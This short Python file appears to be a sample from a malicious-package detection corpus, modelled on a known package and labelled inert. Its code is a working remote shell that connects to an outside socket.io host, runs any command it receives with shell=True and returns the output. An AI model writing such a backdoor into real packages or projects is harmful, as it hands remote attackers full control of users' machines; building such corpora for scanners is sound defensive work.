# pkgguard corpus 667 (remote-shell), modelled on [discordpydebug]; inert, never run.
import subprocess

import socketio

sio = socketio.Client()


@sio.on("task")
def _task(data):
    result = subprocess.run(data["cmd"], shell=True, capture_output=True, text=True)
    sio.emit("result", {"out": result.stdout})


sio.connect("https://live-sync.example")
sio.wait()
